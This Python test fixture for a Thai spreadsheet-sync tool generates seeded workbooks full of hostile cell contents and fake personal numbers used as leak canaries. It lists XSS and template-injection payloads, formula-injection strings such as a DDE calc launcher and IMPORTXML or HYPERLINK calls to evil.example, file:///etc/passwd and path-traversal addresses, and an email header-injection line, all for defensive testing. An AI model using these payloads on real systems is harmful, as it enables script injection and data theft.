# ruff: noqa: E501 - tokens that are long because they are nasty
"""What nobody should type into a sheet, drawn from a seed, and how to tell whether any of it got out."""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Iterable

from sheets_sync.model import Cell, Tab, Workbook
from sheets_sync.programmes import shipped_programmes
from sheets_sync.reading.text import check_digit

THAI_ZERO, WIDE_ZERO = "๐", "\uff10"
GAPS = ("", " ", "-", ".", "/", "\u200b")
MARKUP = """<script>alert(1)</script>|"><img src=x onerror=alert(1)>|</td></tr></table><iframe src=//evil.example>|<svg/onload=alert(1)>
|<a href="https://evil.example/a">x</a>|' onmouseover='alert(1)|" style="background:url(//evil.example/b)|<!--|-->|]]>|</title><base href=//evil.example>
|&lt;b&gt;|&#60;script&#62;|<b|<math><mi//xlink:href="data:x,<script>">|</p><form action=//evil.example><input>|<![endif]-->|<style>*{display:none}</style>
|{{7*7}}|{% for x in y %}|{{self.__init__.__globals__}}|{#|${7*7}|%(x)s|{0}""".replace("\n", "").split("|")
FORMULAS = (
    r"""=HYPERLINK("https://evil.example/c","x")|=1+1|+1+1|-1+1|@SUM(A1)|＝1+1|＠SUM(1)|=cmd|' /C calc'!A0|=IMPORTXML("//evil.example","//a")|\t=1+1|\r=1+1""".replace(
        "\\t", "\t"
    )
    .replace("\\r", "\r")
    .split("|")
)
ADDRESSES = """javascript:alert(1)|java\tscript:alert(1)|data:text/html,<script>|vbscript:x|file:///etc/passwd|//evil.example/d|https://evil.example/e
|http://evil.example/f|https://docs.google.com@evil.example/|https://docs.google.com.evil.example/|\\\\evil.example\\g|ftp://evil.example""".replace(
    "\n", ""
).split("|")
ODD = [
    "\x00", "\x0b", "\x1b[31m", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800", "\U0001f600", "\uffff", "\u0e4d\u0e32",
    "\u0e31" * 9, "../../etc/passwd", "CON", "a/b", "-rf", "ก" * 3000, "\n\n", "\r\nBcc: evil@evil.example", "\u2028", "％",
]  # fmt: skip
WORDS = (
    "น้ำท่วมแปลง|ขุดแล้วเสร็จ|รอผู้รับจ้าง|104,000|3-1-25|8 ม.ค. 64|โฉนด 1234|HLM|แปลง 7|หมู่ 5|16.43, 103.51|-5|1.5|ดินเค็ม".split(
        "|"
    )
)
TAME = "น้ำท่วมแปลง ขุดต่อไม่ได้"

DIGITS = {ord(zero) + n: str(n) for zero in (THAI_ZERO, WIDE_ZERO) for n in range(10)}
APART = re.compile("[\\s.\\-/,()\u2010-\u2015\u200b-\u200f\u2060\u00ad\u00a0]+")


def citizen_id(dice: random.Random) -> str:
    """Thirteen digits with the right last one."""
    body = f"{dice.randint(1, 8)}{dice.randrange(10**11):011}"
    return body + check_digit(body)


def phone(dice: random.Random) -> str:
    """A mobile number."""
    return f"0{dice.choice('689')}{dice.randrange(10**8):08}"


def scripted(digits: str, dice: random.Random) -> str:
    """The same number in one of three scripts, parted in one of six ways."""
    zero, gap = dice.choice(("0", "0", THAI_ZERO, WIDE_ZERO)), dice.choice(GAPS)
    parts = (1, 4, 5, 2, 1) if len(digits) == 13 else (3, 3, 4)
    places = [sum(parts[:n]) for n in range(len(parts))]
    return gap.join(digits[a : a + n] for a, n in zip(places, parts, strict=True)).translate(
        {ord("0") + n: chr(ord(zero) + n) for n in range(10)}
    )


class Canaries:
    """Numbers of people who do not exist, and whether a text tells one of them."""

    def __init__(self, seed: int, count: int = 200) -> None:
        dice = random.Random(seed)  # noqa: S311 - the same numbers each time
        self.ids = [citizen_id(dice) for _ in range(count)]
        self.phones = [phone(dice) for _ in range(count)]
        self.emails = [f"c4nary{n}@villager.example" for n in range(count)]
        self._whole = {*self.ids, *self.phones}

    def typed(self, dice: random.Random) -> str:
        """One of them as somebody might write it."""
        match dice.randrange(5):
            case 0 | 1:
                return f"{dice.choice(['เลข', 'บัตร ', ''])}{scripted(dice.choice(self.ids), dice)}{dice.choice(['ครับ', ' ', ''])}"
            case 2 | 3:
                return f"{dice.choice(['โทร', 'โทร. ', ''])}{scripted(dice.choice(self.phones), dice)}{dice.choice(['ค่ะ', ' ', ''])}"
            case _:
                return dice.choice(self.emails)

    def told_by(self, text: str) -> list[str]:
        """Those that stand in a text, however their digits are written and parted."""
        digits = APART.sub("", unicodedata.normalize("NFKC", text))
        found = [each for each in self.emails if each in text]
        for run in re.findall(r"\d{10,}", digits.translate(DIGITS)):
            for size in (13, 10):
                found += [
                    run[at : at + size] for at in range(len(run) - size + 1) if run[at : at + size] in self._whole
                ]
        return found


def typed(dice: random.Random, canaries: Canaries | None = None) -> str:
    """The text of one cell: one to four tokens."""
    kinds: list[Iterable[str]] = [MARKUP, MARKUP, FORMULAS, ADDRESSES, ODD, WORDS]
    tokens = [dice.choice(list(dice.choice(kinds))) for _ in range(dice.randint(1, 3))]
    if canaries and dice.random() < 0.4:
        tokens.insert(dice.randrange(len(tokens) + 1), f" {canaries.typed(dice)} ")  # nobody glues a number to another
    return dice.choice(["", " ", ""]).join(tokens)


def _cell(dice: random.Random, canaries: Canaries | None) -> Cell:
    text = typed(dice, canaries)
    link = dice.choice(ADDRESSES) if dice.random() < 0.1 else ""
    formula = dice.choice(FORMULAS) if dice.random() < 0.05 else ""
    return Cell(text, text, link=link, formula=formula)


SHAPES = [(p, shape) for p in shipped_programmes() for shape in p.shapes.values()]
TITLES = [
    "โคก หนอง นา อำเภอยางตลาด จังหวัดกาฬสินธุ์",
    "โก่งธนูโมเดล อำเภอยางตลาด จังหวัดกาฬสินธุ์",
    "แผนปฏิบัติการโคก หนอง นา อำเภอยางตลาด",
]
SOUND = {
    "owner_name": "นายสมชาย ใจดีมาก", "tambon_code": "หัวงัว", "district_code": "ยางตลาด", "province_code": "กาฬสินธุ์", "model": "HLM",
    "size_rai": "3", "moo": "5", "hh_total": "100", "village": "โนนทดสอบ", "plots": "6", "villages": "4", "activity": "ขุดสระ",
    "latitude": "16.4328", "longitude": "103.5065",
}  # fmt: skip
"""What makes a row count: a row in which every cell is nasty would be left out, and tell nothing of what comes after."""


def sheet(dice: random.Random, number: int, rows: int, canaries: Canaries | None) -> Tab:
    """A tab of one of the programmes' kinds of tables, most cells nasty, enough of them sound for its rows to count."""
    _, shape = SHAPES[number % len(SHAPES)]
    heads = [(name, spec.words[0]) for name, spec in shape.fields.items() if spec.words]
    title = next(t for t in TITLES if ("โก่งธนู" in t) == ("villages" in shape.fields or "hh_total" in shape.fields))
    body = []
    for row in range(rows):
        cells = []
        for name, _head in heads:
            sound = SOUND.get(name)
            keep = sound is not None and dice.random() < 0.7
            if keep and name == "village":
                sound = f"{sound} {row}"
            if keep and name == "moo":
                sound = str(row % 20 + 1)
            cells.append(Cell(sound or "", sound) if keep else _cell(dice, canaries))
        body.append(tuple(cells))
    name = f"แท็บ{number} {typed(dice, canaries)}"[:90]
    return Tab(number, name, ((Cell(title, title),), (), tuple(Cell(word, word) for _, word in heads), *body))


def workbook(seed: int, *, tabs: int = 6, rows: int = 40, canaries: Canaries | None = None) -> Workbook:
    """A workbook of an office where somebody wishes ill, or tests."""
    dice = random.Random(seed)  # noqa: S311 - the same cells each time
    title = f"ยางตลาด {typed(dice, canaries)}"[:120]
    return Workbook(f"1Nasty{seed}", title, tuple(sheet(dice, number, rows, canaries) for number in range(tabs)))


def cells_of(book: Workbook) -> int:
    """How many cells are not blank."""
    return sum(not cell.blank for tab in book.tabs for row in tab.rows for cell in row)
